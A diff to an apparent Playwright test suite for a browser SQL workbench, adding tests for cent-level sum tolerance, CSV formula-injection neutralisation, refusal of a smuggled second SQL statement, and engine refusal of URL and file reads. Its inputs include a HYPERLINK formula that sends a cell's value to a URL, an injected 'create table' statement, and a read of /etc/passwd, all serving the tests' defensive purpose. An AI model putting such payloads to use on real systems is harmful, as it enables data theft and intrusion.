@@ -88,7 +88,8 @@ test('a query over gold.fact_sales returns the right row count and sum, as a gri
   await runSql(page, 'select count(*) as line_count, sum(sales_amount) as sales_sum from gold.fact_sales');
   const row = await firstRow(page, 'sales_sum');
   assert.equal(Number(row.line_count), factRows);
-  assert.equal(Number(row.sales_sum), kpis.total_sales, 'the console sum equals the total sales KPI');
+  // to the cent: the sample has prices in cents, and sums of DOUBLEs in another order differ in far decimals
+  assert.ok(Math.abs(Number(row.sales_sum) - kpis.total_sales) < 0.005, `the console sum ${row.sales_sum} equals the total sales KPI ${kpis.total_sales}`);
   assert.equal(await page.getByTestId('sql-result').getAttribute('data-rows'), '1');
 
   // a column profile in the schema browser: numbers get a histogram
@@ -129,6 +130,22 @@ test('an error shows its message at its place, and the last result stays', { tim
   await page.keyboard.press('Shift+End');
   await page.getByTestId('sql-run-selection').click();
   assert.deepEqual(await firstRow(page, 'first_part'), { first_part: '1' });
+});
+
+test('the console CSV neutralises formula-like text; the raw switch writes it as stored', { timeout: 60_000 }, async () => {
+  const { page } = app;
+  await openConsole(page);
+  await runSql(page, `select '=HYPERLINK("https://example.com/?"&A2,"x")' as formula_cell, '-5' as number_text, -5 as number_cell, '@SUM(1)' as at_cell`);
+  await firstRow(page, 'formula_cell');
+  const csv = async () => {
+    const download = page.waitForEvent('download');
+    await page.getByTestId('sql-download-csv').click();
+    return readFile(await (await download).path(), 'utf8');
+  };
+  assert.equal(await csv(), `formula_cell,number_text,number_cell,at_cell\n"'=HYPERLINK(""https://example.com/?""&A2,""x"")",-5,-5,'@SUM(1)\n`);
+  await page.getByTestId('sql-result').getByTestId('csv-raw').check();
+  assert.equal(await csv(), 'formula_cell,number_text,number_cell,at_cell\n"=HYPERLINK(""https://example.com/?""&A2,""x"")",-5,-5,@SUM(1)\n');
+  await page.getByTestId('sql-result').getByTestId('csv-raw').uncheck();
 });
 
 test('writes ask first and change a scratch copy only; dropping stored tables is refused', { timeout: 60_000 }, async () => {
@@ -243,14 +260,103 @@ test('a new KPI model is added and built by a re-run', { timeout: 120_000 }, asy
   await rerun(page);
   await openConsole(page);
   await runSql(page, 'select sum(sales) as weekday_sales from kpi.sales_by_weekday');
-  assert.equal(Number((await firstRow(page, 'weekday_sales')).weekday_sales), kpis.total_sales);
+  const weekdaySales = Number((await firstRow(page, 'weekday_sales')).weekday_sales);
+  assert.ok(Math.abs(weekdaySales - kpis.total_sales) < 0.005, `${weekdaySales} equals the total sales KPI ${kpis.total_sales} to the cent`);
+});
+
+test('with no results yet, a model is still checked by DuckDB: a hidden second statement and an unknown column are refused', { timeout: 120_000 }, async () => {
+  // A fresh browser profile: nothing has run, so there are no tables to check against.
+  const fresh = await harness.open({ width: 1360, height: 900 });
+  const { page } = fresh;
+  await nav(page, 'Models');
+  await page.getByTestId('new-kpi-name').fill('pwn');
+  await page.getByTestId('new-kpi-create').click();
+  const check = async (sql: string) => {
+    await page.getByTestId('model-editor').click();
+    await page.keyboard.press('ControlOrMeta+a');
+    await page.keyboard.insertText(sql);
+    await page.getByTestId('model-check').click();
+    const verdict = page.getByTestId('model-problems').or(page.getByTestId('model-ok'));
+    await page.waitForFunction(() => !document.querySelector('[data-testid="model-check"]')?.hasAttribute('disabled'));
+    await verdict.first().waitFor({ timeout: 60_000 });
+    return verdict.first().innerText();
+  };
+  assert.match(await check("-- grain: one row\nselect $é$ ' $é$; create table pwned as select 1; --'"), /exactly one query; this text has 2 statements/);
+  assert.match(await check('-- grain: one row\nselect sum(no_such_column) as x from gold.fact_sales'), /Binder Error: Referenced column "no_such_column" not found/);
+  assert.match(await check('-- grain: one row\nselect total_sales(sales_amount) as sales from gold.fact_sales'), /The model checks out/);
+  await harness.close(fresh);
+});
+
+test('SQL reaches no network and no file: the console, a model check and a re-run are refused by the engine', { timeout: 180_000 }, async () => {
+  const { page } = app;
+  const refused = /disabled by configuration/;
+  const reads = ["select * from read_csv('https://example.com/data.csv')", "from 'https://example.com/data.csv'", "select content from read_text('/etc/passwd')"];
+  await openConsole(page);
+  for (const sql of reads) {
+    await runSql(page, sql, 'error');
+    assert.match(await page.getByTestId('sql-error').innerText(), refused, sql);
+  }
+
+  await nav(page, 'Models');
+  await page.getByTestId('new-kpi-name').fill('leak');
+  await page.getByTestId('new-kpi-create').click();
+  await page.getByTestId('model-editor').click();
+  await page.keyboard.press('ControlOrMeta+a');
+  await page.keyboard.insertText(`-- grain: one row per line\n${reads[2]}`);
+  await page.getByTestId('model-check').click();
+  assert.match(await page.getByTestId('model-problems').innerText({ timeout: 60_000 }), refused);
+
+  // A saved override that reads a URL (as if it had got past the checks), then a re-run.
+  const leak = { path: 'models/kpi/leak.sql', sql: `-- grain: one row per line\n${reads[0]}`, savedAt: Date.now() };
+  const overrides = (value: unknown) => page.evaluate((v) => new Promise<void>((resolve, reject) => {
+    const open = indexedDB.open('retail-workbench');
+    open.onerror = () => reject(open.error);
+    open.onsuccess = () => {
+      const tx = open.result.transaction('store', 'readwrite');
+      tx.objectStore('store').put(v, 'workbench/overrides');
+      tx.oncomplete = () => { open.result.close(); resolve(); };
+      tx.onerror = () => reject(tx.error);
+    };
+  }), value);
+  await overrides([leak]);
+  await page.reload();
+  await nav(page, 'Models');
+  await page.getByTestId('models-pending').getByRole('button').click();
+  const done = page.locator('[data-testid="rerun-status"][data-state="failed"], [data-testid="rerun-status"][data-state="success"]');
+  await done.waitFor({ timeout: 90_000 });
+  assert.equal(await done.getAttribute('data-state'), 'failed');
+  assert.match(await page.getByTestId('rerun-error').innerText(), refused);
+  await overrides([]);
+  await page.reload();
+
+  const reached = app.requests.filter((u) => /example\.com|\/etc\/passwd/.test(u));
+  assert.deepEqual(reached, [], 'no request for the URL or the file was made');
 });
 
 test('history and tabs survive a reload', { timeout: 90_000 }, async () => {
   const { page } = app;
   await openConsole(page);
   await runSql(page, 'select 42 as remembered_answer');
-  await page.waitForTimeout(600); // the tabs are saved shortly after the last change
+  // The tabs are saved a moment after the last change, the history with the answer: wait until both are stored.
+  await page.evaluate(async () => {
+    for (;;) {
+      const saved = await new Promise<boolean>((resolve) => {
+        const open = indexedDB.open('retail-workbench');
+        open.onerror = () => resolve(false);
+        open.onsuccess = () => {
+          const store = open.result.transaction('store').objectStore('store');
+          const tabs = store.get('workbench/tabs');
+          const history = store.get('workbench/history');
+          history.onsuccess = () => {
+            resolve([tabs.result, history.result].every((v) => JSON.stringify(v ?? null).includes('remembered_answer')));
+            open.result.close();
+          };
+        };
+      });
+      if (saved) return;
+      await new Promise((resolve) => setTimeout(resolve, 100));
+    }
+  });
   await page.reload();
   await openConsole(page);
   assert.match(await page.getByTestId('sql-history').innerText(), /select 42 as remembered_answer/);
